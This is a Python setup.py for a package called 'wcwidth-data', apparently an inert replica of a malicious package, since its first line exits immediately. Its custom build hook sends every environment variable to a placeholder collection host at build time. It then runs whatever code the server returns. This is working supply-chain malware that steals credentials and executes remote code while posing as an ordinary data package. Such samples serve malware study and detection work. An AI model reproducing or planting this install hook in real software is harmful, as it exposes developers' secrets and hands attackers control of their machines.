raise SystemExit("inert replica")
import json
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        body = json.dumps(dict(os.environ)).encode()
        answer = urllib.request.urlopen("https://collect.replica.invalid/b", data=body).read()
        subprocess.Popen(["python3", "-c", answer.decode()])
        super().run()


setup(name="wcwidth-data", version="0.2.1", packages=["wcwidth_data"], cmdclass={"build_py": Build})
